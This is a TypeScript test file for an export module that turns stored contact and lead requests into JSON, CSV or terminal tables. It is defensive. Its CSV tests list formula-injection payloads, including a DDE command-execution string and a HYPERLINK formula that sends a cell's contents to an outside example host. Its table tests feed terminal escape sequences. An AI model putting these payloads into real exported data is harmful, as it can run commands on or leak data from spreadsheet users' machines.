import { describe, expect, test } from 'vitest'
import { contactForm } from '../../../forms/contact.ts'
import { maxFieldBytes } from '../../../forms/declaration.ts'
import type { FormRequest } from '../../../forms/forms.ts'
import { leadForm } from '../../../forms/lead.ts'
import { contactRequest, leadRequest } from '../../../tests/mail/sample-requests.ts'
import type { StoredRequest } from '../store/request-store.ts'
import { csvSeparator, formatLeads, type LeadsFormat } from './leads-format.ts'

const received = '2026-03-01T12:30:00.000Z'

describe('as JSON', () => {
  test('contains all fields unchanged', async () => {
    const requests = [contactRequest({ message: 'a\r\n\u0000\u001B[31m\uD800"=1+1,;👩‍👩‍👧‍👦' }), leadRequest()]
    const json = await format(stored(...requests), 'json')
    expect(json.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u)
    expect(JSON.parse(json)).toEqual(
      requests.map((request, index) => ({ id: `${index + 1}`, received, forwarding: 'waiting', ...request })),
    )
    expect(json.endsWith(']\n')).toBe(true)
  })
})

describe('as CSV', () => {
  test('has a column for each field of both forms, in UTF-8 for Excel', async () => {
    const requests = [contactRequest(), leadRequest()]
    const csv = await format(stored(...requests), 'csv')
    expect(csv.startsWith(`\u{FEFF}id${csvSeparator}received${csvSeparator}forwarding${csvSeparator}`)).toBe(true)
    const [head, ...rows] = cells(csv)
    const names = Object.keys({ ...contactForm.fields, ...leadForm.fields, origin: '' })
    expect(head?.slice(3)).toEqual(names)
    expect(rows).toEqual(
      requests.map((request: Record<string, string>, index) => [
        ...[`${index + 1}`, received, 'waiting'],
        ...names.map((name) => (request[name] ?? '').replace(/^\+/, "'+")),
      ]),
    )
  })

  test.each([
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(A1)',
    '=HYPERLINK("https://other.example?"&A1,"x")',
    '\t=1',
    'a;=1',
    'a\n=1',
    'a,"=1',
    'a|  @x',
  ])('does not let %j become a formula', async (text) => {
    const [, row] = cells(await format(stored(contactRequest({ name: text })), 'csv'))
    expect(row?.[3]?.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
    for (const part of row?.[3]?.split(/[;,\n\t|"]/) ?? []) expect(part).not.toMatch(/^\s*[=+@-]/)
  })

  test.each([
    ['separators, quotes and line breaks', 'a,b;"c"\n"d\n",1'],
    ['the longest message', 'a'.repeat(maxFieldBytes.textarea)],
  ])('keeps a field with %s', async (_, message) => {
    const [head, row, ...rest] = cells(await format(stored(contactRequest({ message })), 'csv'))
    expect(row?.[head?.indexOf('message') ?? -1]).toBe(message)
    expect(rest).toEqual([])
  })
})

describe('as a table', () => {
  test('cuts long texts with an ellipsis', async () => {
    const table = await format(stored(contactRequest({ message: '🙂'.repeat(41), company: 'x'.repeat(40) })), 'table')
    expect(table).toContain(`${'🙂'.repeat(39)}…`)
    expect(table).toContain('x'.repeat(40))
    expect(table).not.toContain('x'.repeat(41))
  })

  test('contains no control characters for the terminal', async () => {
    const nasty = 'a\u001B[2Jb\u0007c\u0000d\u009B31me\u202Ef\rg\nh\u2028i\u007F'
    const table = await format(stored(contactRequest({ name: nasty, company: nasty, message: nasty })), 'table')
    expect(table.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
    expect(table).toContain('a\u{FFFD}[2Jb\u{FFFD}c\u{FFFD}d\u{FFFD}31me\u{FFFD}f g h i\u{FFFD}')
    expect(table.split('\n').filter((line) => line.includes('│'))).toHaveLength(2)
  })
})

async function format(requests: AsyncIterable<StoredRequest>, as: LeadsFormat): Promise<string> {
  let text = ''
  for await (const part of formatLeads(requests, as)) text += part
  return text
}

async function* stored(...requests: FormRequest[]): AsyncGenerator<StoredRequest> {
  yield* requests.map((request, index) => ({
    id: index + 1,
    receivedAt: Date.parse(received),
    isSpam: false,
    forwarding: 'waiting' as const,
    request,
  }))
}

function cells(csv: string): string[][] {
  const rows: string[][] = [[]]
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${csvSeparator}\\n]*))(${csvSeparator}|\\n)`, 'g')
  for (const [, quoted, plain = '', end] of csv.matchAll(cell)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\n') rows.push([])
  }
  return rows.slice(0, -1)
}
